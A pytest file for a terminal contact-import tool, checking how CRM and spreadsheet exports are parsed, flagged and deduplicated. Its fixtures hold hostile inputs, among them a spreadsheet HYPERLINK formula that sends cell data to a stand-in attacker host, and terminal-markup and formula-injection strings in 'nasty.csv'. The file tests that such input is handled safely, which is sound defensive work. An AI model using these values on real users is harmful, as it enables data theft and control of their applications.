"""Each sample file gives what samples/EXPECTED.md says."""

from datetime import date, time

import msgspec
import pytest
from helpers_exchange import CHICAGO, SAMPLES, work_out

from followup_tui.exchange.errors import NotReadable
from followup_tui.exchange.plan import Known
from followup_tui.exchange.table import read
from followup_tui.method.identity import Index
from followup_tui.model.text import clean


def names(plan):
    return [draft.person.name for draft in plan.imported]


def by_line(plan):
    return {draft.line: draft for draft in plan.imported}


def test_hubspot():
    table = read(SAMPLES / "hubspot_contacts.csv")
    assert (table.layout, table.encoding, table.delimiter, table.header_line) == ("hubspot", "UTF-8", ",", 1)
    assert table.recognised.unmapped == ()
    assert table.recognised.left_out == ("Record ID", "Contact owner", "Create Date")
    found = work_out("hubspot_contacts.csv")
    assert names(found) == [
        "Maren Holloway",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click") Brandt',
        "Siobhán O'Meara-Ní Dhónaill",
        "Noah Park",
        "Tove Lind",
    ]
    maren, brandt, siobhan, noah, tove = found.imported
    assert maren.person.zone == CHICAGO
    assert maren.person.role == "Buyer"
    assert (maren.callback.when.day, maren.callback.when.start) == (date(2026, 12, 1), time(15))
    assert maren.callback.when.zone == CHICAGO
    assert maren.notes == ("asked for a call back",)
    assert "Last Activity Date: 2026-11-02 09:14" in maren.history
    assert brandt.person.zone == "Europe/Berlin"
    assert siobhan.notes == ('line one\nline two, with comma\n\n"quoted" end',)
    assert siobhan.person.role == 'Head of "Ops"'
    assert [each.raw for each in (*noah.person.emails, *noah.person.phones)] == ["not-an-email", "12"]
    assert {flag.field for flag in noah.flags} == {"Email", "Phone Number"}
    assert [each.norm for each in tove.person.emails] == ["tove@lind.example", "tove.private@lind.example"]
    assert (tove.person.phones[0].norm, tove.person.phones[0].ext) == ("+46855500123", "45")
    (aside,) = found.set_aside
    assert (aside.line, aside.like) == (3, Known("Maren Holloway", line=2))
    assert [(each.line, each.reason) for each in found.refused] == [(4, "no name, company, mail or phone")]
    assert found.read == 7


def test_pipedrive():
    found = work_out("pipedrive_people.csv")
    assert read(SAMPLES / "pipedrive_people.csv").layout == "pipedrive"
    assert names(found) == ["Maren Holloway", "Dr. Ines de la Cruz Vega", "Cher", "Org Only B.V."]
    maren, ines, cher, company = found.imported
    assert maren.callback.when.day == date(2026, 12, 1)
    assert not maren.callback.when.timed
    assert (ines.person.email, ines.person.emails[0].label) == ("ines.home@vega.example", "home")
    assert (ines.person.phone, ines.person.phones[0].label) == ("+34 600 555 010", "mobile")
    assert cher.person.tags == ("Cold lead", "Customer")
    assert (cher.person.phones[0].raw, cher.person.phones[0].norm) == ("(02) 5550 1234", "")
    assert [flag.line for flag in found.flagged] == [4]
    assert company.person.company == "Org Only B.V."


def test_pipedrive_after_hubspot_sets_maren_aside():
    known = Index()
    work_out("hubspot_contacts.csv", known)
    found = work_out("pipedrive_people.csv", known)
    assert [(each.line, each.like.name) for each in found.set_aside] == [(2, "Maren Holloway")]


def test_linkedin():
    table = read(SAMPLES / "Connections.csv")
    assert (table.layout, table.header_line) == ("linkedin", 4)
    found = work_out("Connections.csv")
    assert names(found) == ["Priya Raman, MBA", "Ayşe İnönü 🚀", "Sam", "山田 太郎"]
    assert [draft.callback for draft in found.imported] == [None] * 4
    assert found.imported[0].history == ("Connected On: 05 Mar 2026",)
    assert found.imported[0].person.links[0].norm == "linkedin.com/in/priya-raman-0"
    assert found.imported[0].person.role == "VP, Sales"
    assert [each.line for each in found.refused] == [8]


def test_google():
    table = read(SAMPLES / "google_contacts_new.csv")
    assert table.layout == "google"
    assert table.recognised.unmapped == ()
    found = work_out("google_contacts_new.csv")
    assert names(found) == ["Aisha Rahman", "Plumbing, only a company", "דנה כהן", "only.mail@lone.example"]
    aisha = found.imported[0].person
    assert [each.norm for each in aisha.emails] == ["aisha@kedai.example", "aisha.2@kedai.example"]
    assert [(each.raw, each.norm) for each in aisha.phones] == [
        ("+60 12-345 0101", "+60123450101"),
        ("04-123 0102", ""),
    ]
    assert (aisha.emails[0].label, aisha.phones[0].label) == ("home", "mobile")
    assert aisha.tags == ("Rotary",)
    assert [flag.line for flag in found.flagged] == [2, 3]
    assert all(draft.person.tags == () for draft in found.imported[1:])


def test_german_excel_needs_its_region():
    table = read(SAMPLES / "excel_de_semikolon.csv")
    assert (table.encoding, table.delimiter, table.header_line) == ("CP1252", ";", 2)
    assert table.recognised.unmapped == ()
    found = work_out("excel_de_semikolon.csv", country="DE")
    assert names(found) == ["Jürgen Groß", "Änne Öztürk", "Kurz Zeile"]
    gross, oeztuerk, _ = found.imported
    assert gross.person.company == "Groß & Söhne; Handel"
    assert [each.norm for each in gross.person.phones] == ["+493023125044", "+4915155500101"]
    assert (gross.callback.when.day, gross.callback.when.start) == (date(2026, 12, 3), time(14))
    assert oeztuerk.callback is None
    assert [(flag.line, flag.field) for flag in found.flagged] == [(4, "Nächster Anruf")]
    assert oeztuerk.history == ("Nächster Anruf: 31.02.2027",)


def test_german_phones_are_flagged_under_the_wrong_region():
    found = work_out("excel_de_semikolon.csv")
    assert [flag.line for flag in found.flagged if flag.field in {"Telefon", "Mobil"}] == [3, 3, 4]
    assert found.imported[0].person.phones[0].raw == "030/23125-044"


def test_pasted_phrases_are_read_on_their_clock():
    found = work_out("pasted_from_sheet.tsv")
    olu, kim, late = found.imported
    assert olu.callback.when.in_zone(CHICAGO).starts_at().isoformat() == "2026-11-27T08:00:00-06:00"
    assert (kim.callback.when.day, kim.callback.when.timed) == (date(2026, 12, 1), False)
    assert kim.person.name == "Kim Nguyễn"
    assert late.callback is None
    assert [flag.line for flag in found.flagged] == [4]
    assert late.history == ("callback: last friday",)


def test_nasty():
    found = work_out("nasty.csv")
    rows = by_line(found)
    assert sorted(rows) == [2, 3, 4, 5, 6, 7, 8, 9, 11, 12, 13, 14, 16, 17, 19]
    assert rows[3].person.name == "[red]Bold[/red] [@click=app.quit]Quit[/]"
    assert (rows[9].person.name, rows[9].person.email) == ("=1+1", "-2+3@nasty.example")
    assert rows[9].person.emails[0].norm == "-2+3@nasty.example"
    assert rows[11].person.name == "blank@nasty.example"
    assert rows[12].person.name == "NulByte"
    assert rows[17].person.name == "Line Break"
    assert len(rows[13].person.company) > 1500
    assert rows[19].person.name == "ragged only"
    assert [each.line for each in found.refused] == [10]
    assert [(each.line, each.like.name) for each in found.set_aside] == [(15, "Dup One")]
    assert any(flag.line == 16 and "possible duplicate of Dup One" in flag.reason for flag in found.flagged)
    assert rows[16].person.phones[0].ext == "9"


def test_nothing_that_steers_a_terminal_comes_in():
    for draft in work_out("nasty.csv").imported:
        told = [*draft.notes, *draft.history, *(flag.reason for flag in draft.flags)]
        for text in (*told, *_texts(msgspec.to_builtins(draft.person))):
            assert clean(text) == text


def _texts(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for each in value.values():
            yield from _texts(each)
    elif isinstance(value, list | tuple):
        for each in value:
            yield from _texts(each)


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("empty.csv", "nothing to import"),
        ("header_only.csv", "nothing to import"),
        ("photo.csv", "not a text table"),
        ("prospects.xlsx", "save it as CSV"),
        ("icloud_v3.vcf", "CSV for now"),
        ("broken.vcf", "CSV for now"),
    ],
)
def test_what_cannot_be_read_is_refused_by_name(name, words):
    with pytest.raises(NotReadable) as refused:
        read(SAMPLES / name)
    assert words in str(refused.value)
    assert name in str(refused.value)
    assert str(refused.value).count(". ") == 0


@pytest.mark.parametrize(
    "name",
    [
        "hubspot_contacts.csv",
        "pipedrive_people.csv",
        "Connections.csv",
        "google_contacts_new.csv",
        "excel_de_semikolon.csv",
        "pasted_from_sheet.tsv",
        "nasty.csv",
    ],
)
def test_reading_a_file_again_adds_nobody(name):
    known = Index()
    first = work_out(name, known)
    again = work_out(name, known)
    assert again.imported == ()
    assert len(again.set_aside) == first.read - len(first.refused)
